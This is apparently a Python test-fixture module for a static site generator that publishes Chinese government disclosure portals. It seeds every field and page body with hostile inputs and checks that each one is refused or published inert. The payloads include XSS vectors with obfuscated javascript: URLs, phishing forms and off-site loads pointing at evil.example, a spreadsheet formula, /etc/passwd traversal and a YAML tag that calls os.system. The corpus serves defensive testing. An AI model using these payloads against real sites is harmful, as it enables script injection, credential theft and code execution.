"""Hostile inputs in every field, data list and body: each must be refused by check or published inert.

``settle(root)`` writes them all into a tiny portal, runs `gongkai check`, takes out every input
that a path:line problem refused, and leaves a portal that builds with the rest. The unit test
(tests/test_hostile_corpus.py) reads the built HTML with a parser; the browser test
(tests/e2e/test_hostile_served.py) opens every page that holds one.
"""

from __future__ import annotations

import json
import re
from dataclasses import dataclass
from pathlib import Path

from tests.conftest import SEED_INTERPRETATION, SEED_POLICY, run_gongkai, write_site

# Values for text fields: markup, its escaped spellings, URL schemes, template and feed syntax.
VALUES = [
    "<script>alert(1)</script>",
    '"><img src=x onerror=alert(1)>',
    "'><svg onload=alert(1)>",
    "</title><script>alert(1)</script>",
    "</textarea></script></style><img src=x onerror=alert(1)>",
    "&lt;script&gt;alert(1)&lt;/script&gt;",
    "&#60;img src=x onerror=alert(1)&#62;",
    "javascript:alert(1)",
    "data:text/html,<script>alert(1)</script>",
    '<a href="javascript:alert(1)">点击</a>',
    '<meta http-equiv="refresh" content="0;url=https://evil.example/">',
    '<base href="https://evil.example/">',
    '<iframe src="https://evil.example/"></iframe>',
    "{{ config }}{% for x in y %}${alert(1)}",
    "]]><script>alert(1)</script><![CDATA[",
    "</script><script>alert(1)</script>\u2028\u2029",
    '=HYPERLINK("https://evil.example/","点击")',
    "<!--",
    "\u202e<img src=x onerror=alert(1)>",
    "%3Cscript%3Ealert(1)%3C%2Fscript%3E",
]

# Page bodies: multi-line tags, reference definitions, split and control-character schemes,
# entities, every element that loads or navigates, and off-site resources.
BODIES = [
    "<script>alert(1)</script>",
    "<img src=x onerror=alert(1)>",
    "<details open\nontoggle=alert(1)>详情</details>",
    '<a\nhref="javascript:alert(1)">链接</a>',
    "<img src=x onerror\n=alert(1)>",
    "见[说明][r]。\n\n[r]:\n    javascript:alert(1)",
    "见[说明][r]。\n\n[r]: <javascript:alert(1)>",
    "[链接](javascript:alert(1))",
    '<a href="java\nscript:alert(1)">链接</a>',
    '<a href="java&#x09;script:alert(1)">链接</a>',
    '<a href="&#1;javascript:alert(1)">链接</a>',
    "[链接](\x01javascript:alert(1))",
    '<a href=" javascript:alert(1)">链接</a>',
    '<a href="jav&#x61;script&colon;alert(1)">链接</a>',
    '<a href="&#106;&#97;&#118;&#97;&#115;&#99;&#114;&#105;&#112;&#116;&#58;alert(1)">链接</a>',
    '<a href="javascript&#0000058alert(1)">链接</a>',
    "<IMG SRC=JaVaScRiPt:alert(1)>",
    '<a href="vbscript:msgbox(1)">链接</a>',
    '<a href="data:text/html;base64,PHNjcmlwdD5hbGVydCgxKTwvc2NyaXB0Pg==">链接</a>',
    "[链接](data:text/html,alert)",
    "<javascript:alert(1)>",
    '<base href="https://evil.example/">',
    '<meta http-equiv="refresh" content="0;url=https://evil.example/">',
    '<form action="https://evil.example/"><input type="password" name="p"><button>登录</button></form>',
    '<iframe src="https://evil.example/"></iframe>',
    '<object data="https://evil.example/x.swf"></object>',
    '<object type="text/html" data="data:text/html,<script>alert(1)</script>"></object>',
    '<embed src="https://evil.example/x.swf">',
    "<svg onload=alert(1)><circle r=1 /></svg>",
    '<svg><a xlink:href="javascript:alert(1)"><text y="20">图</text></a></svg>',
    '<math><mi xlink:href="javascript:alert(1)">公式</mi></math>',
    "<math><mtext><table><mglyph><style><img src=x onerror=alert(1)>",
    '<noscript><p title="</noscript><img src=x onerror=alert(1)>"></noscript>',
    "<template><script>alert(1)</script></template>",
    "<!--><img src=x onerror=alert(1)>-->",
    "<scr<script>ipt>alert(1)</script>",
    '<link rel="stylesheet" href="https://evil.example/x.css">',
    "<style>@import url(https://evil.example/x.css);</style>",
    '<p style="background:url(https://evil.example/x.png)">段落</p>',
    "![图](https://evil.example/x.png)",
    '<img src="//evil.example/x.png">',
    '<img src="/\\evil.example/x.png">',
    '<img srcset="https://evil.example/x.png 1x">',
    '<video poster="https://evil.example/x.png"></video>',
    '<audio src="https://evil.example/x.mp3" autoplay></audio>',
    "<input autofocus onfocus=alert(1)>",
    '<div onmouseover="alert(1)">移过</div>',
    "<marquee onstart=alert(1)>字</marquee>",
    "段落\n{: onclick=\"alert(1)\" }",
    "&lt;script&gt;alert(1)&lt;/script&gt; 与 &#60;b&#62; 是文字",
    "## <img src=x onerror=alert(1)> 第一条\n\n正文。",
]


@dataclass(frozen=True)
class Hostile:
    """One hostile input: where it is written (file, first and last line) and what it is."""

    name: str
    path: str
    first: int = 1
    last: int = 10_000
    page: str | None = None

    def holds(self, path: str, line: int) -> bool:
        """Whether a problem at ``path:line`` is about this input."""
        return path == self.path and self.first <= line <= self.last


def _yaml(value: str, escaped: bool = False) -> str:
    """A double-quoted YAML scalar; ``escaped`` spells < > & as \\u escapes, as the file never shows them."""
    text = json.dumps(value, ensure_ascii=False)
    # JSON leaves U+2028/2029 as they are; YAML reads them as line breaks unless escaped.
    text = text.replace("\u2028", "\\u2028").replace("\u2029", "\\u2029").replace("\u202e", "\\u202e")
    if escaped:
        text = text.replace("<", "\\u003c").replace(">", "\\u003e").replace("&", "\\u0026")
    return text


def _policy(value: str, escaped: bool, index: int) -> str:
    v = _yaml(value, escaped)
    return f"""\
---
标题: {v}
文号: {_yaml(f"通测发〔2017〕{index}号 " + value, escaped)}
发文机关: {v}
起草部门: {v}
公文种类: 通知
主题分类: 综合政务
成文日期: 2017-06-06
发布日期: 2017-06-08
主题词: [{v}, 测试]
摘要: {v}
需要解读: false
免于解读理由: {v}
待核对: {v}
附件:
  - 名称: {v}
    文件: fujian.pdf
外部变更:
  状态: 已修改
  日期: 2017-07-01
  机关: {v}
  依据: {v}
  说明: {v}
---
## 第一条

正文。
"""


def _interpretation(value: str, escaped: bool) -> str:
    v = _yaml(value, escaped)
    return f"""\
---
标题: {v}
解读对象: 通政办字〔2017〕157号
解读形式: 文字
解读人: {v}
解读单位: {v}
发布日期: 2017-06-08
主题词: [{v}]
摘要: {v}
---
正文。
"""


# Structured fields: a hostile value where a choice, a date, a yes/no or a reference is expected.
STRUCTURED = {
    "公文种类": ("公文种类: 通知", "公文种类: <script>alert(1)</script>"),
    "主题分类": ("主题分类: 综合政务", '主题分类: ["<img src=x onerror=alert(1)>"]'),
    "成文日期": ("成文日期: 2017-06-06", "成文日期: javascript:alert(1)"),
    "发布日期": ("发布日期: 2017-06-08", '发布日期: "2017-06-08<script>"'),
    "施行日期": ("成文日期: 2017-06-06", "成文日期: 2017-06-06\n施行日期: [2017-06-06]"),
    "有效期至": ("成文日期: 2017-06-06", "成文日期: 2017-06-06\n有效期至: {年: 2027}"),
    "是否行政规范性文件": ("成文日期: 2017-06-06", "成文日期: 2017-06-06\n是否行政规范性文件: <b>是</b>"),
    "草稿": ("成文日期: 2017-06-06", "成文日期: 2017-06-06\n草稿: [javascript:alert(1)]"),
    "修改": ("成文日期: 2017-06-06", "成文日期: 2017-06-06\n修改: [../../../etc/passwd]"),
    "废止": ("成文日期: 2017-06-06", '成文日期: 2017-06-06\n废止: ["javascript:alert(1)"]'),
    "替代": ("成文日期: 2017-06-06", '成文日期: 2017-06-06\n替代: ["<script>alert(1)</script>"]'),
    "附件文件": ("成文日期: 2017-06-06",
                 "成文日期: 2017-06-06\n附件:\n  - 名称: 甲\n    文件: ../../../../etc/passwd"),
    "附件链接": ("成文日期: 2017-06-06",
                 "成文日期: 2017-06-06\n附件:\n  - 名称: 甲\n    文件: javascript:alert(1)"),
    "附件网页": ("成文日期: 2017-06-06",
                 "成文日期: 2017-06-06\n附件:\n  - 名称: 甲\n    文件: yemian.html"),
    "外部变更状态": ("成文日期: 2017-06-06",
                     "成文日期: 2017-06-06\n外部变更:\n  状态: <script>\n  日期: 2017-07-01\n  机关: 甲"),
    "YAML标记": ("成文日期: 2017-06-06",
                 "成文日期: 2017-06-06\n摘要: !!python/object/apply:os.system [\"touch /tmp/gk-pwned\"]"),
    "YAML别名": ("成文日期: 2017-06-06", "成文日期: 2017-06-06\n摘要: &a [x, x]\n待核对: [*a, *a]"),
    "索引号": ("索引号: 115223000115559370/2017-00157", '索引号: "<svg onload=alert(1)>"'),
}

FEE_FIELDS = ("执收单位", "项目名称", "收费标准", "收费依据", "资金管理方式", "备注")
CATALOG_FIELDS = ("公开主体", "公开事项", "公开内容", "公开依据", "公开时限", "公开对象")


def _fee(value: str) -> list[str]:
    rows = [f"- {FEE_FIELDS[0]}: {_yaml(value)}", "  类别: 行政事业性收费"]
    return rows + [f"  {key}: {_yaml(value)}" for key in FEE_FIELDS[1:]]


def _catalog(value: str) -> list[str]:
    rows = [f"- {CATALOG_FIELDS[0]}: {_yaml(value)}", f"  公开方式: [{_yaml(value)}, 政府网站]", "  五公开类别: 决策"]
    return rows + [f"  {key}: {_yaml(value)}" for key in CATALOG_FIELDS[1:]]


# The organisation data (data/organisation.yml) feeds the footer of every page, the 机构 page, the
# 依申请公开 guide and its form: one hostile value per field, written \u-escaped as an editor's
# file would hide them (a value with a literal "<" is refused like a front-matter value).
ORGANISATION_FIELDS = ("机关名称", "机关职能", "办公地址", "邮政编码", "办公时间", "联系电话", "传真", "电子邮箱",
                       "依申请公开受理机构", "受理地址", "受理电话", "受理电子邮箱", "公报名称")
ORGANISATION_PAGES = ("xxgk/fading/jigou/", "xxgk/yishenqing/", "lianxi/")


def _organisation() -> tuple[str, list[Hostile]]:
    values = iter(VALUES)
    lines, inputs = ["示例: true"], []

    def field(key: str, indent: str = "", lead: str = "") -> None:
        lines.append(f"{indent}{lead}{key}: {_yaml(next(values), escaped=True)}")
        inputs.append(Hostile(f"机构信息 {key}", "data/organisation.yml", len(lines), len(lines),
                              page=ORGANISATION_PAGES[len(inputs) % len(ORGANISATION_PAGES)]))

    for key in ORGANISATION_FIELDS:
        field(key)
    lines.append("内设机构:")
    for _ in range(2):
        field("名称", "  ", "- ")
        field("职责", "    ")
    lines.append("负责人:")
    field("姓名", "  ", "- ")
    field("职务", "    ")
    field("分工", "    ")
    return "\n".join(lines) + "\n", inputs


def _data_list(entries: list[list[str]], path: str, label: str) -> tuple[str, list[Hostile]]:
    lines, inputs = ["条目:"], []
    for index, rows in enumerate(entries):
        first = len(lines) + 1
        lines += rows
        inputs.append(Hostile(f"{label} {index + 1}", path, first, len(lines), page=None))
    return "\n".join(lines) + "\n", inputs


def hostile_files() -> tuple[dict[str, str | bytes], list[Hostile]]:
    """The portal's files and the hostile inputs they hold."""
    files: dict[str, str | bytes] = {
        "content/policies/2017/seed.md": SEED_POLICY,
        "content/interpretations/2017/seed-jiedu.md": SEED_INTERPRETATION,
        "content/policies/2018/yemian.html": "<script>alert(1)</script>\n",
        "content/policies/2017/fujian.pdf": b"%PDF-1.4\n%%EOF\n",
    }
    inputs = []
    for index, value in enumerate(VALUES, 1):
        for escaped in (False, True):
            stem = f"h{index:02d}{'e' if escaped else ''}"
            policy = f"content/policies/2017/{stem}.md"
            files[policy] = _policy(value, escaped, index * 2 + escaped)
            inputs.append(Hostile(f"政策文件各字段 {stem}", policy, page=f"policies/2017/{stem}/"))
            interpretation = f"content/interpretations/2017/{stem}.md"
            files[interpretation] = _interpretation(value, escaped)
            inputs.append(Hostile(f"政策解读各字段 {stem}", interpretation, page=f"interpretations/2017/{stem}/"))
        page = f"content/xxgk/t{index:02d}.md"
        files[page] = f"---\ntitle: {_yaml(value)}\n---\n正文。\n"
        inputs.append(Hostile(f"页面 title t{index:02d}", page, page=f"xxgk/t{index:02d}/"))
    for number, (key, (old, new)) in enumerate(STRUCTURED.items(), 1):
        path = f"content/policies/2018/s{number:02d}.md"
        text = (SEED_POLICY.replace("通政办字〔2017〕157号", f"通测发〔2018〕{number}号")
                .replace("索引号: 115223000115559370/2017-00157\n", "")
                .replace("---\n## 正文", "需要解读: false\n免于解读理由: 测试。\n---\n## 正文"))
        if key == "索引号":
            text = text.replace("发文机关:", "索引号: 115223000115559370/2017-00157\n发文机关:")
        assert old in text, key
        files[path] = text.replace(old, new, 1)
        inputs.append(Hostile(f"字段 {key}", path, page=f"policies/2018/s{number:02d}/"))
    for index, body in enumerate(BODIES, 1):
        path = f"content/xxgk/b{index:02d}.md"
        files[path] = f"# 正文测试 {index}\n\n{body}\n"
        inputs.append(Hostile(f"正文 b{index:02d}", path, page=f"xxgk/b{index:02d}/"))
    for index, body in enumerate([*BODIES[:12], BODIES[-1]], 1):
        path = f"content/policies/2019/p{index:02d}.md"
        files[path] = (SEED_POLICY.replace("通政办字〔2017〕157号", f"通测发〔2019〕{index}号")
                       .replace("索引号: 115223000115559370/2017-00157\n", "")
                       .replace("---\n## 正文", "需要解读: false\n免于解读理由: 测试。\n---\n## 正文")
                       .replace("测试正文。", body))
        inputs.append(Hostile(f"政策文件正文 p{index:02d}", path, page=f"policies/2019/p{index:02d}/"))
    fees, fee_inputs = _data_list([_fee(v) for v in VALUES], "data/fees.yml", "收费目录清单条目")
    catalog, catalog_inputs = _data_list([_catalog(v) for v in VALUES], "data/catalog.yml", "主动公开目录清单条目")
    files["data/fees.yml"], files["data/catalog.yml"] = fees, catalog
    files["data/organisation.yml"], organisation_inputs = _organisation()
    fee_inputs = [Hostile(i.name, i.path, i.first, i.last, "qingdan/shoufei/") for i in fee_inputs]
    catalog_inputs = [Hostile(i.name, i.path, i.first, i.last, "qingdan/mulu/") for i in catalog_inputs]
    return files, inputs + fee_inputs + catalog_inputs + organisation_inputs


_PROBLEM = re.compile(r"^(?P<path>[^:\n]+):(?P<line>\d+): (?P<code>[a-z0-9-]+) (?P<warning>警告：)?")


@dataclass
class Settled:
    """The portal after check: which inputs it refused (with the lines that did) and which it keeps."""

    root: Path
    refused: dict[Hostile, list[str]]
    published: list[Hostile]
    stray: list[str]


def settle(root: Path) -> Settled:
    """Write the hostile portal, check it, and take out what check refused so that the rest builds."""
    files, inputs = hostile_files()
    write_site(root, files)
    _, out, _ = run_gongkai(root, "check")
    refused: dict[Hostile, list[str]] = {}
    stray = []
    for line in out.splitlines():
        match = _PROBLEM.match(line)
        if not match:
            stray.append(line)
            continue
        if match.group("warning"):
            continue
        owners = [i for i in inputs if i.holds(match.group("path"), int(match.group("line")))]
        for owner in owners:
            refused.setdefault(owner, []).append(line)
        if not owners:
            stray.append(line)
    _take_out(root, files, refused)
    published = [i for i in inputs if i not in refused]
    return Settled(root, refused, published, stray)


def _take_out(root: Path, files: dict[str, str | bytes], refused: dict[Hostile, list[str]]) -> None:
    for hostile in refused:
        path = root / hostile.path
        if hostile.path == "data/organisation.yml":
            # One mapping: a refused field keeps its key with a plain value, so the file still reads.
            rows = path.read_text(encoding="utf-8").split("\n")
            key = rows[hostile.first - 1].split(":", 1)[0]
            rows[hostile.first - 1] = f"{key}: {'zwgk@example.gov.cn' if key.endswith('邮箱') else '已删除'}"
            path.write_text("\n".join(rows), encoding="utf-8")
        elif hostile.path.startswith("data/"):
            rows = path.read_text(encoding="utf-8").split("\n")
            rows[hostile.first - 1:hostile.last] = ["#"] * (hostile.last - hostile.first + 1)
            path.write_text("\n".join(rows), encoding="utf-8")
        elif path.exists():
            path.unlink()
